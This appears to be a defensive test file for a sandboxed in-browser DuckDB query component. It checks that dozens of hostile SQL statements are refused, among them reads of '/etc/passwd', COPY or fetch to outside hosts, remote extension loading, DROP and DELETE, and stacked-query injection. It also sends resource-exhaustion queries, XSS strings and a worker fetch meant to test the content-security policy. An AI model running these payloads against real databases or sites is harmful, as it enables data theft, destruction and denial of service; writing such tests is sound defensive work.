import type {Page} from "playwright-core";
import {expect, test} from "vitest";
import type * as Database from "../../src/components/database.js";
import {useSite} from "./site.js";

const site = useSite();

async function openDatabase(): Promise<Page> {
  const page = await site.open("data.html");
  const url = JSON.stringify(site.built("components/database.js"));
  await page.evaluate(`import(${url}).then((module) => void (globalThis.database = module))`);
  return page;
}

/** For each statement the kind of its error, or its rows as JSON where it has none. */
async function outcomes(page: Page, statements: readonly string[]): Promise<Record<string, string>> {
  return page.evaluate(async (list) => {
    const {database} = globalThis as unknown as {database: typeof Database};
    const found: Record<string, string> = {};
    for (const sql of list)
      found[sql] = await database.query(sql, {timeout: 2000}).then(
        ({rows}) => JSON.stringify(rows),
        (error: Database.QueryError) => error.kind
      );
    return found;
  }, statements as string[]);
}

const INTACT = "SELECT count(*)::INTEGER AS n, min(label) AS first FROM reports";

async function expectIntact(page: Page, before: Record<string, string>): Promise<void> {
  expect(await outcomes(page, [INTACT])).toEqual(before);
}

/** What would read, write, reach out, or change the engine for the queries after. */
const ATTACKS = [
  "SELECT * FROM read_csv('https://example.com/x.csv')",
  "SELECT * FROM read_csv_auto('//example.com/x.csv')",
  "SELECT * FROM read_text('https://example.com/')",
  "SELECT * FROM read_blob(['/etc/passwd', 'https://example.com/'])",
  "SELECT * FROM glob('*')",
  "SELECT * FROM glob('https://example.com/*')",
  "SELECT * FROM sniff_csv('https://example.com/x.csv')",
  "COPY reports TO 'x.csv'",
  "COPY (SELECT 1) TO 'https://example.com/x'",
  "COPY reports FROM 'https://example.com/x.csv'",
  "EXPORT DATABASE 'x'",
  "IMPORT DATABASE 'https://example.com/x'",
  "PRAGMA import_database('x')",
  "ATTACH 'https://example.com/x.db'",
  "ATTACH ':memory:' AS reports2",
  "DETACH memory",
  "USE main",
  "INSTALL httpfs",
  "INSTALL httpfs FROM 'https://example.com'",
  "FORCE INSTALL json",
  "LOAD httpfs",
  "LOAD 'https://example.com/x.duckdb_extension.wasm'",
  "UPDATE EXTENSIONS",
  "SET enable_external_access = true",
  "SET GLOBAL autoload_known_extensions = true",
  "RESET lock_configuration",
  "SET memory_limit = '4GB'",
  "SET VARIABLE x = 1",
  "PRAGMA memory_limit = '4GB'",
  "PRAGMA enable_profiling = 'json'",
  "CALL enable_logging('QueryLog')",
  "CREATE TABLE x AS SELECT 1",
  "CREATE TEMP TABLE reports AS SELECT 1",
  "CREATE OR REPLACE VIEW reports AS SELECT 1",
  "CREATE MACRO count(x) AS 0",
  "CREATE SECRET (TYPE s3, KEY_ID 'x')",
  "CREATE TYPE varchar2 AS ENUM ('a')",
  "DROP TABLE reports",
  "DELETE FROM reports",
  "TRUNCATE reports",
  "UPDATE reports SET label = 'x'",
  "INSERT INTO reports SELECT * FROM reports",
  "ALTER TABLE reports RENAME TO gone",
  "MERGE INTO reports USING (SELECT 1 AS a) s ON false WHEN MATCHED THEN DELETE",
  "COMMENT ON TABLE reports IS 'x'",
  "BEGIN",
  "COMMIT",
  "ROLLBACK",
  "CHECKPOINT",
  "VACUUM",
  "PREPARE p AS DELETE FROM reports",
  "EXECUTE p",
  "EXPLAIN ANALYZE DELETE FROM reports",
  "EXPLAIN ANALYZE (DELETE FROM reports)",
  "WITH x AS (SELECT 1) DELETE FROM reports",
  "WITH x AS (SELECT 1) INSERT INTO reports SELECT * FROM reports",
  "SELECT 1; DROP TABLE reports",
  "SELECT 1\u003B DELETE FROM reports",
  "FROM enable_logging('QueryLog', storage = 'file', storage_path = 'x')",
  "FROM \"enable_logging\"(storage = 'file', storage_path = 'x')",
  "FROM system.main.enable_logging(storage = 'file', storage_path = 'x')",
  "FROM query('FROM enable_' || 'logging(storage = ''file'', storage_path = ''x'')')",
  "FROM disable_logging()",
  "FROM checkpoint()",
  "FROM arrow_scan(NULL, NULL, NULL)",
  "FROM 'https://example.com/x.parquet'",
  "FROM 'x.csv'",
  "SELECT getenv('HOME')",
  "SELECT '{}'::JSON",
  "SELECT nextval('x')"
];

const REFUSALS = new Set(["forbidden", "syntax", "catalog"]);

test("no attack reads, writes, reaches out or changes anything for the queries after", async () => {
  const page = await openDatabase();
  const before = await outcomes(page, [INTACT]);
  expect(before[INTACT]).toContain('"n":5');
  const found = await outcomes(page, ATTACKS);
  expect(Object.entries(found).filter(([, outcome]) => !REFUSALS.has(outcome))).toEqual([]);
  const verbs = Object.entries(found).filter(([sql]) => !/^(?:SELECT|FROM|WITH|EXPLAIN)/u.test(sql));
  expect(verbs.filter(([, outcome]) => outcome !== "forbidden")).toEqual([]);
  await expectIntact(page, before);
});

const SETTINGS = ["enable_external_access", "autoload_known_extensions", "autoinstall_known_extensions"].map(
  (name) => `current_setting('${name}') AS ${name}`
);

test("the engine itself is locked, whatever the reading of the SQL lets through", async () => {
  const page = await openDatabase();
  const sql = `SELECT ${SETTINGS.join(", ")}, current_setting('lock_configuration') AS locked`;
  const locked =
    '[{"enable_external_access":false,"autoload_known_extensions":false,"autoinstall_known_extensions":false,"locked":true}]';
  expect((await outcomes(page, [sql]))[sql]).toBe(locked);
  await outcomes(page, ["SELECT repeat('x', 3000000000)"]);
  expect((await outcomes(page, [sql]))[sql]).toBe(locked);
});

test("no query can starve, overflow or wreck the engine for the queries after", async () => {
  const page = await openDatabase();
  const before = await outcomes(page, [INTACT]);
  const found = await outcomes(page, [
    `SELECT ${"(".repeat(50_000)}1${")".repeat(50_000)}`,
    `SELECT ${"1 + ".repeat(50_000)}1`,
    `SELECT ${"[".repeat(5000)}${"]".repeat(5000)}`,
    `SELECT ${"CASE WHEN true THEN ".repeat(3000)}1${" END".repeat(3000)}`,
    `FROM ${"(FROM ".repeat(3000)}reports${")".repeat(3000)}`,
    "WITH RECURSIVE t AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM t) SELECT count(*) FROM t",
    "WITH RECURSIVE t AS (SELECT 'x' AS a UNION ALL SELECT a || a FROM t) SELECT length(a) FROM t",
    "SELECT repeat('x', 4000000000)",
    "SELECT string_agg(repeat('x', 1000000)) FROM range(100000)",
    "SELECT list(i) FROM range(1000000000) t(i)",
    "SELECT * FROM range(1000000000)",
    "SELECT repeat('x', 10000000) FROM range(100)",
    "SELECT * FROM test_all_types()"
  ]);
  const kinds = new Set(["syntax", "binder", "runtime", "memory", "timeout", "engine"]);
  expect(Object.entries(found).filter(([, outcome]) => !kinds.has(outcome))).toEqual([]);
  await expectIntact(page, before);
});

test("text in a result stays text", async () => {
  const page = await openDatabase();
  const sql = `SELECT '<img src=x onerror=alert(1)>' AS "<script>alert(1)</script>", 'x' AS "__proto__", 1 AS "constructor"`;
  expect((await outcomes(page, [sql]))[sql]).toBe(
    '[{"<script>alert(1)</script>":"<img src=x onerror=alert(1)>","__proto__":"x","constructor":1}]'
  );
});

test("the page's content-security-policy holds in the engine's worker", async () => {
  const page = await openDatabase();
  await outcomes(page, ["SELECT 1"]);
  const worker = page.workers()[0]!;
  const outcome = await worker.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      addEventListener("securitypolicyviolation", (event) =>
        resolve((event as SecurityPolicyViolationEvent).blockedURI)
      )
    );
    const reached = fetch("https://example.com/secret").then(
      () => "reached",
      () => "refused"
    );
    return Promise.all([reached, violation]);
  });
  expect(outcome).toEqual(["refused", "https://example.com/secret"]);
  expect(site.complaints().filter((line) => line.startsWith("request to another host"))).toEqual([]);
});
